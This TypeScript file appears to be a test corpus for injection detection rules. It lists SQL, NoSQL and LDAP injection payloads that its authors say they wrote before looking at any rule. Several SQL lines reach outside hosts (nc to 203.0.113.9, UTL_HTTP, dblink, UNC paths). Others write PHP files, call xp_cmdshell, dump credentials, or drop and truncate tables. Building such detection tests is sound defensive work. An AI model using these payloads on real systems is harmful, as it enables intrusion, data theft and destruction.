import { values } from '../benign/values.ts';

/** Attacks on databases and directories that no list of the corpora has: written by us before a rule was looked at. */
export const databases: Readonly<Record<string, readonly string[]>> = {
  sqli: values`
7' AND 1=(SELECT CASE WHEN (ascii(substr((SELECT rolname FROM pg_roles LIMIT 1),1,1))>96) THEN 1 ELSE 1/(SELECT 0) END)--
x'||(SELECT string_agg(table_name,$$,$$) FROM information_schema.tables)||'
5;COPY (SELECT version()) TO PROGRAM 'nc -w1 203.0.113.9 4444'
1) AND 7=(SELECT 7 FROM pg_sleep(6)
'||query_to_xml('select * from account',true,false,'')||'
1;DO $q$ BEGIN PERFORM pg_sleep(9); END $q$
-1 UNION ALL SELECT NULL,lo_get(16444)::text,NULL
id=(SELECT id FROM account ORDER BY id FETCH FIRST 1 ROW ONLY OFFSET 3)
9::int=CAST((SELECT current_setting('is_superuser')) AS int)
1 AND (SELECT dblink_connect('host=203.0.113.5 user=x dbname=y')) IS NOT NULL
foo' AND json_extract_path_text('{"a":"1"}','a')='1' AND 'q'='q
' OR '{"k":5}'::jsonb @> '{"k":5}'::jsonb--
' or json_length('{}')<7 or '
1' OR JSON_EXTRACT('{"a":1}','$.a')=1#
%' AND data->>'role' = 'admin' OR '%'='
1 OR JSON_VALUE('{"z":"y"}','$.z')='y'
');WAITFOR DELAY '0:0:7';--
1;DECLARE @h varchar(99);SET @h=0x78705f;EXEC(@h)
1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases FOR XML PATH('')))
' UNION SELECT NULL,(SELECT STRING_AGG(name,0x2c) FROM sys.sql_logins),NULL-- -
'+(SELECT TOP 1 CAST(pwdhash AS nvarchar(90)) FROM member)+'
1;EXEC master..xp_dirtree '\\203.0.113.9\s'--
2;BULK INSERT t FROM 'c:\boot.ini'
1 OR EXISTS(SELECT * FROM OPENROWSET('SQLNCLI','Server=203.0.113.1;','select 1'))
'||UTL_INADDR.get_host_address((SELECT banner FROM v$version WHERE rownum=1))||'
1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(82)||CHR(81),8)
' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--
'||(SELECT extractvalue(xmltype('<a/>'),'/a') FROM dual)||'
1 UNION SELECT listagg(username,',') WITHIN GROUP (ORDER BY 1),2 FROM all_users
' AND (SELECT UTL_HTTP.REQUEST('http://203.0.113.6/'||user) FROM dual) IS NOT NULL--
1 AND LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))
' UNION SELECT group_concat(sql,char(10)),2 FROM sqlite_schema--
1;ATTACH DATABASE '/srv/www/p.php' AS p;CREATE TABLE p.q(c text)
'||(SELECT load_extension('\\203.0.113.7\x.dll'))||'
1 AND unicode(substr((SELECT hex(password) FROM member LIMIT 1),1,1))>50
8 AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),4)
1' PROCEDURE ANALYSE(EXTRACTVALUE(9,CONCAT(0x5c,VERSION())),1)-- -
1' AND EXP(~(SELECT*FROM(SELECT DATABASE())q))-- -
0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z
1 AND (SELECT*FROM(SELECT NAME_CONST(VERSION(),1),NAME_CONST(VERSION(),1))a)
(SELECT(0)FROM(SELECT(SLEEP(8)))v)
1' RLIKE (SELECT (CASE WHEN (8=8) THEN 1 ELSE 0x28 END))-- k
'-(case'1'when'1'then(select+1)else(2)end)-'
' INTO OUTFILE '/srv/www/x.php' LINES TERMINATED BY 0x3c3f--
1 PROCEDURE ANALYSE()
' AND updatexml(3,concat(0x3a,(select group_concat(column_name) from information_schema.columns)),3)='
admin'/*
" or ""="
\' or 5=5 #
1'||'1'='11
' or 1 in (select @@version) --
' HAVING MAX(price)>0 --
-7 OR 17-7=10
1 ORDER BY 23-- -
' GROUP BY meter.id HAVING 2>1--
x' AND userid IS NULL; --
1;SHUTDOWN WITH NOWAIT
'; UPDATE account SET role='admin' WHERE name='bob
1; INSERT INTO account(name,role) VALUES('eve','root')
'; DROP VIEW readings CASCADE; --
1);TRUNCATE TABLE audit;--
1 AND 3 BETWEEN 1 AND 5 AND (SELECT COUNT(*) FROM account)>0
'OR/**/2/**/LIKE/**/2--
1%0aAND%0a1=0%0aUNION%0aSELECT%0aname,2%0aFROM%0aaccount
1e0union(select(1),(2))
1.UNION(SELECT@@version,2)
' UNION VALUES ROW(1,(TABLE account LIMIT 1))-- 
1 UNION (TABLE account)
(1)or(id)like(1)
' || 1=1 limit 0,1 -- 
'; handler account open; handler account read first; --
1;PREPARE z FROM 0x73656c656374;EXECUTE z
1' AND (SELECT 1 FROM generate_series(1,9) g WHERE pg_sleep(1) IS NULL)--
0 UNION SELECT xp_loginconfig('login mode')
' OR REGEXP_LIKE(user,'^S') AND 'a'='a
1;VACUUM;SELECT lo_import('/etc/hosts')
'||DBMS_XMLGEN.getxml('select user from dual')||'
1 AND typeof(1)='integer' AND (SELECT count(*) FROM sqlite_temp_master)>=0
') OR NOT EXISTS (SELECT 1 FROM dual WHERE 1=2) --
1^(SELECT ascii(mid(user(),1,1))>80)
1 OR ST_LatFromGeoHash((SELECT user()))
'; GRANT ALL ON *.* TO eve@'%'; --
-1' UNION ALL SELECT @@datadir,2 FROM mysql.user LIMIT 1 OFFSET 0 -- a
1'=(SELECT 1)='1
2)OR(2)=(2
foo' OR ascii(lower(substr(current_user,1,1)))=112 OR 'a'='b
5 DIV 1 OR 1 SOUNDS LIKE 1
'; CALL sys.xp_cmdshell('id'); --
1 WHERE 1=1 UNION SELECT secret FROM vault
"; SELECT * FROM pg_shadow; --
1' MINUS SELECT banner FROM v$version--
1 INTERSECT SELECT password FROM users
1;truncate meters
`,
  nosql: values`
{"$ne":null}
{"$gt":""}
[$ne]=1
user[$regex]=^adm
pass[$exists]=true
{"username":{"$in":["admin","root"]},"password":{"$ne":""}}
{"$where":"sleep(5000)"}
{"$where":"this.password.match(/^a/)"}
' || this.role=='admin' || 'a'=='b
';return true;var x='
'; while(true){}; var y='
1;sleep(5000)
{"$or":[{},{"a":"a"}]}
{"$expr":{"$function":{"body":"function(){return 1}","args":[],"lang":"js"}}}
{"$lookup":{"from":"users","localField":"a","foreignField":"b","as":"c"}}
{"$nin":[]}
{"password":{"$regex":"^.{8}"}}
{"$comment":"x","$not":{"$type":2}}
'||db.users.drop()||'
"});db.users.insert({role:"admin"});//
filter[where][role][neq]=x
admin'||'1'=='1
true, $where: '1 == 1'
, $or: [ {}, { 'a':'a
{"size":0,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\")"}}}
{"selector":{"_id":{"$gt":null}}}
*)(|(uid=*
{"$eval":"db.version()"}
{"mapReduce":"users","map":"function(){emit(1,this)}"}
[$where]=sleep(9)
`,
  ldap: values`
*)(uid=*))(|(uid=*
admin)(&)
*)(&
*))%00
admin)(!(&(1=0
x)(|(objectClass=*)
*)(userPassword=*
)(cn=*))(|(cn=*
admin*)((|userpassword=*)
*)(|(mail=*))
bob)(memberOf=CN=Domain Admins,CN=Users,DC=x,DC=y
*()|%26'
(&(uid=*)(userPassword={MD5}*))
)(objectclass=*))(&(objectclass=void
*)(objectCategory=person)
x*)(sAMAccountName>=a
a)(|(password=*)(uid=a
%2A%29%28uid%3D%2A
\2a\29(uid=\2a
admin)(|(adminCount=1
)(department:dn:=*
*)(1.2.840.113556.1.4.803:=2)
`,
};
